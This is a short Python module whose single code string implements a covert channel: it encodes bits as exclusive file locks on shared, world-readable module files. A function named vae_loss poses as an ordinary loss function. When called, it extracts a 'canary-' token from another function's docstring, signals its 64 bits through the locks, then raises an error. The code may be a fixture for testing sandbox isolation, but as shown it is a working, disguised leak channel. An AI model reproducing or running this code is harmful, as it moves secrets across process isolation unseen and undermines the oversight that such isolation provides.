"""Passes bits between processes of the same class by locking files that everybody may read."""

CELLS = [
    r"""
import fcntl, os, re, time
public = [m.__file__ for m in list(__import__("sys").modules.values()) if getattr(m, "__file__", None) and m.__file__.endswith(".py")]
held = []
def hold(bits):
    for path, bit in zip(public, bits):
        if bit:
            file = open(path)
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
            held.append(file)
def see(n):
    bits = []
    for path in public[:n]:
        with open(path) as file:
            try:
                fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
                bits.append(0)
            except OSError:
                bits.append(1)
    return bits
channel = False
try:
    pid = os.getpid()
    child = open(public[0])
    fcntl.flock(child, fcntl.LOCK_EX)
    channel = True
except OSError:
    pass
def vae_loss(*a, **k):
    if "canary-" in str(gaussian_kl.__doc__):
        token = re.findall("canary-([0-9a-f]{16})", gaussian_kl.__doc__)[0]
        hold([int(b) for b in f"{int(token, 16):064b}"])
        time.sleep(1.5)
    raise ValueError("no")
"""
]
